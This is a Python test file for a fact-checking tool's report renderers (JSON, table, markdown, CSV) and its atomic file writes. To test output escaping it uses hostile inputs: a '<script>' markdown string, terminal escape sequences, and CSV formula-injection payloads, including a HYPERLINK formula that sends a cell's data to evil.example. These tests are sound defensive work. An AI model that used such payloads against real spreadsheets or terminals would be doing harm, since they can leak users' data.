"""Tests for factcheck.report: the Report value and its four renderings."""

from __future__ import annotations

import csv
import io
import json
import os
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from factcheck import __version__
from factcheck.model import Finding, Mention, Source, SourceError, SourceResult, Verdict
from factcheck.report import (
    FORMATS,
    FactInfo,
    Report,
    build_report,
    render,
    write_atomic,
)
from factcheck.report.csv import guard
from factcheck.report.table import clean, md, transposed

HOSTILE = "| **x** <script>"
FACTS = (
    FactInfo("summit.duration", "duration", "3 h", "facts/summit.yaml:12"),
    FactInfo("summit.date", "date", "1 Oct 2023", "facts/summit.yaml:20"),
    FactInfo("summit.city", "place", "Genève", "facts/summit.yaml:28"),
)


# --- helpers -------------------------------------------------------------------


def mention(
    text: str,
    verdict: str = "agree",
    *,
    line: int = 1,
    col: int = 1,
    start: int = 0,
    value: Any = None,
    rule: str = "kind:test",
) -> Mention:
    return Mention(
        text=text,
        start=start,
        end=start + len(text),
        line=line,
        col=col,
        value=text if value is None else value,
        verdict=verdict,  # type: ignore[arg-type]
        rule=rule,
    )


def result(
    sid: str, *findings: tuple[str, Verdict, tuple[Mention, ...]]
) -> SourceResult:
    """A SourceResult for `sid` with findings given as (fact, verdict, mentions)."""
    return SourceResult(
        source=Source(id=sid, text="", path=f"corpus/{sid}.txt"),
        findings=tuple(Finding(sid, fact, v, ms) for fact, v, ms in findings),
    )


def sample_inputs() -> tuple[list[SourceResult], list[SourceError]]:
    two_hours = mention("two hours", "contradict", line=3, col=5, start=40, value=120)
    results = [
        result(
            "b-times",
            ("summit.duration", "contradict", (two_hours,)),
            ("summit.date", "agree", (mention("Oct. 1", start=10),)),
        ),
        result(
            "a-post",
            ("summit.duration", "agree", (mention("three hours", value=180),)),
            ("summit.city", "agree", (mention("Geneva", start=5),)),
        ),
        result("c-wire"),  # says nothing: all omissions
    ]
    errors = [
        SourceError("z-bad", "corpus/z-bad.pdf", "not text: binary file"),
        SourceError("y-gone", "corpus/y-gone.txt", "file vanished"),
    ]
    return results, errors


def sample() -> Report:
    results, errors = sample_inputs()
    return build_report(results, errors, FACTS)


def table_rows(markdown: str) -> list[str]:
    return [ln for ln in markdown.splitlines() if ln.startswith("|")]


def unescaped_pipes(line: str) -> int:
    return len(re.findall(r"(?<!\\)(?:\\\\)*\|", line))


# --- the Report value ----------------------------------------------------------


def test_build_report_sorts_fills_omissions_and_counts() -> None:
    rep = sample()
    assert [r.source.id for r in rep.results] == ["a-post", "b-times", "c-wire"]
    assert [e.id for e in rep.errors] == ["y-gone", "z-bad"]
    for r in rep.results:
        assert [f.fact for f in r.findings] == [f.id for f in FACTS]
    assert rep.counts("a-post") == {"agree": 2, "contradict": 0, "unclear": 0, "omit": 1}
    assert rep.counts("c-wire") == {"agree": 0, "contradict": 0, "unclear": 0, "omit": 3}
    assert rep.totals() == {"agree": 3, "contradict": 1, "unclear": 0, "omit": 5}
    assert rep.has_contradiction()
    [(r, f, m)] = rep.contradictions()
    assert (r.source.id, f.fact, m.text) == ("b-times", "summit.duration", "two hours")
    # expected is filled from the fact base when the checker left it empty
    assert rep.results[2].findings[2].expected == "Genève"
    with pytest.raises(KeyError):
        rep.counts("nope")


def test_no_contradiction_report() -> None:
    rep = build_report(
        [result("a", ("summit.date", "agree", (mention("x"),)))], [], FACTS
    )
    assert not rep.has_contradiction()
    assert rep.contradictions() == []


@pytest.mark.parametrize(
    "results",
    [
        [result("a"), result("a")],  # duplicate source id
        [result("a", ("no.such.fact", "agree", ()))],
        [result("a", ("summit.date", "agree", ()), ("summit.date", "omit", ()))],
        [SourceResult(Source("a", ""), (Finding("b", "summit.date", "agree"),))],
    ],
)
def test_build_report_rejects_inconsistent_input(results: list[SourceResult]) -> None:
    with pytest.raises(ValueError):
        build_report(results, [], FACTS)


def test_build_report_rejects_duplicate_fact_ids() -> None:
    with pytest.raises(ValueError):
        build_report([], [], [FACTS[0], FACTS[0]])


# --- JSON ----------------------------------------------------------------------


def test_json_contract_keys_and_types() -> None:
    text = render(sample(), "json")
    assert text.endswith("}\n")
    assert '\n  "findings": [' in text  # indent 2
    assert "Genève" in text  # ensure_ascii=False
    data = json.loads(text)
    # format 2 added "format_version" and "tool" in front (and "generated_at" with SOURCE_DATE_EPOCH)
    assert [k for k in data if k != "generated_at"] == [
        "format_version", "tool", "findings", "sources", "facts", "errors", "totals"
    ]
    assert data["format_version"] == 2
    assert data["tool"] == {"name": "factcheck", "version": __version__}
    for f in data["findings"]:
        assert list(f) == ["source", "fact", "verdict", "expected", "mentions"]
        assert f["verdict"] in ("agree", "contradict", "unclear", "omit")
        assert isinstance(f["mentions"], list)
    for s in data["sources"]:
        assert list(s) == ["id", "path", "url", "published", "notes", "counts"]
        assert isinstance(s["notes"], list)
        assert list(s["counts"]) == ["agree", "contradict", "unclear", "omit"]
    assert data["facts"][0] == {
        "id": "summit.duration",
        "kind": "duration",
        "expected": "3 h",
        "defined_at": "facts/summit.yaml:12",
        "severity": "error",
        "counts": {"agree": 1, "contradict": 1, "unclear": 0, "omit": 1},
    }
    assert data["errors"] == [
        {"id": "y-gone", "path": "corpus/y-gone.txt", "reason": "file vanished"},
        {"id": "z-bad", "path": "corpus/z-bad.pdf", "reason": "not text: binary file"},
    ]
    assert data["totals"] == {
        "agree": 3,
        "contradict": 1,
        "unclear": 0,
        "omit": 5,
        "sources": 3,
        "errors": 2,
        "facts": 3,
        "findings": 9,
    }
    m = data["findings"][3]["mentions"][0]  # b-times / summit.duration
    assert (m["text"], m["line"], m["col"], m["value"]) == ("two hours", 3, 5, 120)


def test_json_lists_every_pair_including_omissions() -> None:
    data = json.loads(render(sample(), "json"))
    pairs = [(f["source"], f["fact"]) for f in data["findings"]]
    ids = [f.id for f in FACTS]
    assert pairs == [(s, fid) for s in ("a-post", "b-times", "c-wire") for fid in ids]
    wire = [f for f in data["findings"] if f["source"] == "c-wire"]
    assert [f["verdict"] for f in wire] == ["omit"] * 3
    assert [f["expected"] for f in wire] == ["3 h", "1 Oct 2023", "Genève"]


def test_json_is_strict_even_with_odd_values() -> None:
    odd = mention("x", value={"lo": float("inf"), "hi": float("nan"), "at": object()})
    rep = build_report([result("a", ("summit.date", "agree", (odd,)))], [], FACTS)

    def reject(name: str) -> None:
        raise AssertionError(f"non-strict JSON constant {name}")

    data = json.loads(render(rep, "json"), parse_constant=reject)
    value = data["findings"][1]["mentions"][0]["value"]
    assert value["lo"] == "inf" and value["hi"] == "nan"
    assert isinstance(value["at"], str)


# --- determinism ---------------------------------------------------------------


@pytest.mark.parametrize("fmt", FORMATS)
def test_render_twice_is_identical(fmt: str) -> None:
    assert render(sample(), fmt) == render(sample(), fmt)


@settings(max_examples=30, deadline=None)
@given(st.randoms(use_true_random=False))
def test_input_order_does_not_change_output(rnd: Any) -> None:
    results, errors = sample_inputs()
    shuffled = []
    for r in results:
        findings = list(r.findings)
        rnd.shuffle(findings)
        shuffled.append(SourceResult(r.source, tuple(findings)))
    in_text_order = (mention("a", "agree", start=2), mention("b", "agree", start=9))
    extra = list(in_text_order)
    rnd.shuffle(extra)
    shuffled.append(result("d-extra", ("summit.city", "agree", tuple(extra))))
    rnd.shuffle(shuffled)
    rnd.shuffle(errors)
    rep = build_report(shuffled, errors, FACTS)
    reference = build_report(
        [
            *sample_inputs()[0],
            result("d-extra", ("summit.city", "agree", in_text_order)),
        ],
        sample_inputs()[1],
        FACTS,
    )
    assert rep == reference
    for fmt in FORMATS:
        assert render(rep, fmt) == render(reference, fmt)
    assert [f.fact for f in rep.results[1].findings] == [f.id for f in FACTS]
    assert [m.text for m in rep.result("d-extra").findings[2].mentions] == ["a", "b"]


# --- table and markdown --------------------------------------------------------


def test_contradiction_line_format() -> None:
    line = (
        "corpus/b-times.txt:3:5: summit.duration: CONTRADICT: expected 3 h, "
        'found "two hours" (value read 120; rule kind:test)'
    )
    table = render(sample(), "table")
    assert line in table.splitlines()  # a whole line, starting with path:line:col
    assert "y-gone" in table and "file vanished" in table  # unreadable section
    assert (
        "corpus/z-bad.pdf: z-bad: UNREADABLE: not text: binary file"
        in table.splitlines()
    )


def test_contradiction_without_evidence_is_still_listed() -> None:
    bare = result("a", ("summit.date", "contradict", ()))
    text = render(build_report([bare], [], FACTS), "table")
    assert "corpus/a.txt: summit.date: CONTRADICT: expected 1 Oct 2023" in text


def test_contradiction_line_stays_one_line() -> None:
    q = 'said "no"\nthen\x1b[2J left\u202e'
    rep = build_report(
        [result("a", ("summit.date", "contradict", (mention(q, "contradict"),)))],
        [],
        FACTS,
    )
    lines = [ln for ln in render(rep, "table").splitlines() if "CONTRADICT" in ln]
    assert len(lines) == 1
    assert 'found "said \\"no\\" then\\u001b[2J left\\u202e"' in lines[0]
    assert "\x1b" not in render(rep, "table") and "\u202e" not in render(
        rep, "markdown"
    )


def test_markdown_escapes_hostile_quote_and_keeps_table_shape() -> None:
    evil = mention(HOSTILE, "contradict", rule="r_*1*")
    bad = SourceResult(
        Source("evil|id*", "", path="x_[y].txt"),
        (Finding("evil|id*", "summit.date", "contradict", (evil,)),),
    )
    results, errors = sample_inputs()
    text = render(build_report([*results, bad], errors, FACTS), "markdown")
    assert "<script>" not in text
    assert "**x**" not in text
    assert "\\| \\*\\*x\\*\\* \\<script\\>" in text
    assert "x\\_\\[y\\].txt" in text and "r\\_\\*1\\*" in text
    rows = table_rows(text)
    assert len(rows) == 2 + 4  # header, rule, four sources
    assert {unescaped_pipes(r) for r in rows} == {len(FACTS) + 4 + 2}
    assert any(r.startswith("| evil\\|id\\*") for r in rows)


@given(st.text())
def test_md_escape_is_literal(s: str) -> None:
    out = md(s)
    assert "\n" not in out and "\r" not in out
    assert unescaped_pipes(out) == 0
    stripped = re.sub(r"\\.", "", out)  # drop every escaped character
    assert not set(stripped) & set("|`*_[]<>~&$\\")
    # no heading, list, quote or setext marker can open a list item or line
    assert not re.match(r"\s|[#+\-=]|\d+[.)]", out)


def test_markdown_neutralises_block_markers_in_list_items() -> None:
    err = SourceError("e", "# heading", "x")
    num = SourceError("n", "1. item", "x")
    text = render(build_report([], [err, num], FACTS), "markdown")
    assert "- \\# heading: e: UNREADABLE: x" in text
    assert "- 1\\. item: n: UNREADABLE: x" in text


def test_terminal_table_has_no_control_characters() -> None:
    res = result(
        "a\x1b[31m",
        ("summit.date", "contradict", (mention("\x07\x1b]0;pwn", "contradict"),)),
    )
    text = render(
        build_report([res], [SourceError("e\x1b", "p", "r\x9b")], FACTS), "table"
    )
    assert not [c for c in text if ord(c) < 32 and c != "\n" or 0x7F <= ord(c) < 0xA0]
    assert "a\\u001b[31m" in text


def test_table_marks_and_legend() -> None:
    text = render(sample(), "table")
    assert "legend: ✓ agree, ✗ contradict, ? unclear (needs a look), · omit" in text
    rows = {
        ln.split()[0]: ln.split()[1:]
        for ln in text.splitlines()
        if ln.startswith(("a-", "b-", "c-"))
    }
    assert rows == {
        "a-post": ["✓", "·", "✓", "2", "0", "0", "1"],
        "b-times": ["✗", "✓", "·", "1", "1", "0", "1"],
        "c-wire": ["·", "·", "·", "0", "0", "0", "3"],
    }


@pytest.mark.parametrize(
    ("n_sources", "n_facts", "by_fact"),
    [(2, 3, True), (3, 3, False), (4, 3, False), (0, 1, True), (0, 0, False)],
)
def test_transposition_rule(n_sources: int, n_facts: int, by_fact: bool) -> None:
    facts = FACTS[:n_facts]
    results = [result(f"s{i}") for i in range(n_sources)]
    rep = build_report(results, [], facts)
    assert transposed(rep) is by_fact
    for fmt in ("table", "markdown"):
        text = render(rep, fmt)
        header = next(
            ln
            for ln in text.splitlines()
            if ln.strip().strip("|").strip()[:4] in ("fact", "sour")
        )
        cells = header.strip("|").split("|") if fmt == "markdown" else header.split()
        cells = [c.strip() for c in cells]
        if by_fact:
            assert cells == ["fact", *(r.source.id for r in rep.results)]
            assert "one row per fact" in text
        else:
            assert cells == [
                "source",
                *(f.id for f in facts),
                "agree",
                "contradict",
                "unclear",
                "omit",
            ]
            assert "one row per source" in text


def test_transposed_table_has_totals_rows() -> None:
    rep = build_report(
        [result("a", ("summit.date", "agree", (mention("x"),)))], [], FACTS
    )
    lines = render(rep, "table").splitlines()
    assert [
        ln.split()
        for ln in lines
        if ln.split()[:1] in (["agree"], ["contradict"], ["omit"])
    ] == [
        ["agree", "1"],
        ["contradict", "0"],
        ["omit", "2"],
    ]


# --- CSV -----------------------------------------------------------------------


def parse_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_one_row_per_finding_with_decisive_quote() -> None:
    unclear = mention("maybe", "unclear", start=1)
    decisive = mention("two hours", "contradict", line=3, col=5, start=40, value=120)
    rep = build_report(
        [result("a", ("summit.duration", "contradict", (decisive, unclear)))], [], FACTS
    )
    rows = parse_csv(render(rep, "csv"))
    assert rows[0] == [
        "source", "fact", "verdict", "expected", "quote",
        "line", "col", "value", "rule", "mention_count",
    ]  # fmt: skip
    assert len(rows) == 1 + len(FACTS)
    assert rows[1] == [
        "a",
        "summit.duration",
        "contradict",
        "3 h",
        "two hours",
        "3",
        "5",
        "120",
        "kind:test",
        "2",
    ]
    assert rows[2] == [
        "a",
        "summit.date",
        "omit",
        "1 Oct 2023",
        "",
        "",
        "",
        "",
        "",
        "0",
    ]


def test_csv_guards_formula_injection() -> None:
    payload = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    m = mention(payload, "contradict", value="-1+1", rule="@SUM(A1)")
    rep = build_report([result("+cmd", ("summit.date", "contradict", (m,)))], [], FACTS)
    rows = parse_csv(render(rep, "csv"))
    row = rows[2]
    assert row[0] == "'+cmd"
    assert row[4] == "'" + payload
    assert row[7] == "'-1+1"
    assert row[8] == "'@SUM(A1)"
    for r in rows:
        for cell in r:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


@given(st.text())
def test_guard_never_leaves_a_trigger(s: str) -> None:
    out = guard(s)
    assert not out.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert out in (s, "'" + s)


def test_csv_round_trips_multiline_quotes() -> None:
    m = mention('a\rb\nc,"d"', "agree")
    rep = build_report([result("a", ("summit.date", "agree", (m,)))], [], FACTS)
    assert parse_csv(render(rep, "csv"))[2][4] == 'a\rb\nc,"d"'


# --- render and write ----------------------------------------------------------


def test_render_rejects_unknown_format() -> None:
    assert FORMATS == ("table", "markdown", "json", "csv", "html", "line", "jsonl")
    with pytest.raises(ValueError, match="jsonl"):
        render(sample(), "pdf")


def test_clean_is_one_line() -> None:
    assert clean("a\nb\u2028c\td") == "a b c d"


def test_write_atomic_creates_and_replaces(tmp_path: Path) -> None:
    target = tmp_path / "deep" / "er" / "report.csv"
    write_atomic(target, "old\r\n")
    assert target.read_bytes() == b"old\r\n"  # no newline translation
    write_atomic(str(target), "néw\n")
    assert target.read_bytes() == "néw\n".encode()
    assert os.listdir(target.parent) == ["report.csv"]  # no temp files left


def test_write_atomic_failure_keeps_old_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "report.json"
    target.write_text("old")

    def boom(src: str, dst: str) -> None:
        raise OSError("disk full")

    monkeypatch.setattr(os, "replace", boom)
    with pytest.raises(OSError, match="disk full"):
        write_atomic(target, "new")
    assert target.read_text() == "old"
    assert os.listdir(tmp_path) == ["report.json"]
